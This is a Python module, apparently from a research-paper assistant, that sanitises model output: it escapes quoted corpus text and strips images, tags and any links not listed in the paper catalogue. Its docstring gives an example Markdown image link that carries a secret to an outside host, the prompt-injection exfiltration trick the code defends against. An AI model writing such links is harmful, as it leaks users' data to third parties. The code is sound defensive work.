"""Keeping answers plain: verbatim quotations as Markdown, and no way out for injected links.

A model can be talked into writing `![x](https://elsewhere/?q=secret)`; a browser that renders
it calls that server unasked. So no image survives, and a link only when the catalogue itself
gives exactly that address.
"""

from __future__ import annotations

import re
from collections.abc import Iterable

from assistant.models import Paper

__all__ = ["addresses", "defuse", "quote"]

_QUOTED_NUMBERS = re.compile(r"(?<!\\)\[(?=\s*[\^#]?\d)([^\[\]\n]{0,40})(?<!\\)\]")
_LINK_LIKE = re.compile(r"(?<!\\)\[([^\[\]\n]*)(?<!\\)\](?=[(\[])")
_EMPHASIS = re.compile(
    r"(?<![\\*])(\*{1,3})(?=[^\s*])([^\n]*?[^\s*\\])\1(?!\*)"
    r"|(?<![\\\w_])(_{1,3})(?=[^\s_])([^\n]*?[^\s_\\])\3(?![\w_])"
)

_URL = re.compile(r"(?:https?://|www\.)[^\s<>\[\]\"'`\\|]+", re.IGNORECASE)
# The target is everything to the matching bracket, titles and one level of brackets included.
_TARGET = r"\(\s*((?:[^()\n]|\([^()\n]*\))*)\)"
_IMAGE = re.compile(r"!\[([^\]\n]*)\](?:" + _TARGET + r"|\[[^\]\n]*\])")
_LINK = re.compile(r"(?<![\\!])\[((?:[^\[\]\n]|\[[^\[\]\n]*\])+)(?<!\\)\]" + _TARGET)
_HALF_LINK = re.compile(r"!?(?<!\\)\[((?:[^\[\]\n]|\[[^\[\]\n]*\])+)(?<!\\)\]\(\s*(?:https?:|www\.)[^\n)]*$")
_REFERENCE_LINK = re.compile(r"(?<![\\!])\[([^\[\]\n]+)(?<!\\)\]\[([^\[\]\n]*[^\[\]\n\d\s,;–-][^\[\]\n]*)\]")
_DEFINITION = re.compile(
    r"^[ \t]{0,3}\[[^\]\n]+\]:[ \t]*<?(?:https?:|www\.|data:|javascript:|//)[^\n]*\n?", re.M | re.I
)
_AUTOLINK = re.compile(r"<((?:https?://|mailto:)[^<>\s]+)>", re.IGNORECASE)
_TAG = re.compile(
    r"<\s*/?\s*(?:[a-zA-Z][\w-]*\s+[^<>]*=[^<>]*|/?(?:script|style|iframe|object|embed|img|svg|form|input|button"
    r"|link|meta|base|video|audio|source|a)\b[^<>]*)/?>",
    re.IGNORECASE,
)
# What a Markdown renderer would act on in a line of prose: a tag, comment or address in angle
# brackets, and the mark of a heading, a list or a quotation at its start.
_ACTIVE = re.compile(
    rf"(?<!\\)(?={_TAG.pattern}|<!|<\?|<(?:[a-z][a-z0-9+.-]*:|[\w.+-]+@)[^<>\s]*>)<|^(?:#(?=[#\s])|[>+-](?=\s))",
    re.IGNORECASE,
)


def quote(text: str) -> str:
    """Return verbatim corpus text so that Markdown shows it as it is, on one line.

    Bracketed numbers, which would read as citations of the answer, become `\\[3\\]`; pairs of
    asterisks or underscores that would set emphasis, brackets that would open a link, and tags that
    would do something are escaped too. On one line nothing can define a link's address. Nothing is
    HTML-escaped: that is for whoever makes HTML of it.
    """
    text = _ACTIVE.sub(r"\\\g<0>", " ".join(text.split()))
    text = _QUOTED_NUMBERS.sub(r"\\[\1\\]", text)
    text = _LINK_LIKE.sub(r"\\[\1\\]", text)
    return _EMPHASIS.sub(_unemphasised, text)


def addresses(papers: Iterable[Paper]) -> frozenset[str]:
    """The addresses the catalogue gives for these papers, in the form `defuse` compares."""
    found: set[str] = set()
    for paper in papers:
        found.update(_canonical(url) for url in (*paper.urls, paper.url or ""))
        found.update(_canonical(url) for url in _URL.findall(paper.abstract))
    return frozenset(found - {""})


def defuse(text: str, allowed: frozenset[str]) -> str:
    """Take images, HTML with attributes and links that are not in `allowed` out of model text.

    A link keeps its words; a bare address that was not offered is set in backticks, where no
    renderer makes a link of it. `allowed` comes from `addresses`.
    """
    text = _IMAGE.sub(lambda m: m[1], text)
    text = _DEFINITION.sub("", text)
    text = _LINK.sub(lambda m: _link(m, allowed), text)
    text = _HALF_LINK.sub(lambda m: m[1], text)
    text = _REFERENCE_LINK.sub(lambda m: m[1], text)
    text = _AUTOLINK.sub(lambda m: m[1], text)
    text = _TAG.sub("", text)
    return _URL.sub(lambda m: _bare(m, text, allowed), text)


def _link(match: re.Match[str], allowed: frozenset[str]) -> str:
    label, target = match[1], match[2].split()[0].strip("<>") if match[2].split() else ""
    if re.fullmatch(r"[\^#]?\d[\d\s,;–-]*", label):
        return f"[{label}]"  # a citation with an address of the model's own
    if _canonical(target) in allowed:
        return f"[{label}]({target})"
    return label


def _bare(match: re.Match[str], text: str, allowed: frozenset[str]) -> str:
    url = match[0]
    before = text[match.start() - 1 : match.start()]
    if _canonical(url) in allowed or before == "`":
        return url
    core = url.rstrip(".,;:!?)]*_")
    return f"`{core}`{url[len(core) :]}"


def _canonical(url: str) -> str:
    """An address without scheme, www. and what punctuation clings to it; the host in lower case."""
    bare = re.sub(r"^(?:https?://)?(?:www\.)?", "", url.strip(), flags=re.IGNORECASE).rstrip(".,;:!?)]}>*_/")
    host, slash, path = bare.partition("/")
    return host.lower() + slash + path


def _unemphasised(match: re.Match[str]) -> str:
    marks = "".join("\\" + mark for mark in match[1] or match[3])
    return f"{marks}{match[2] or match[4]}{marks}"
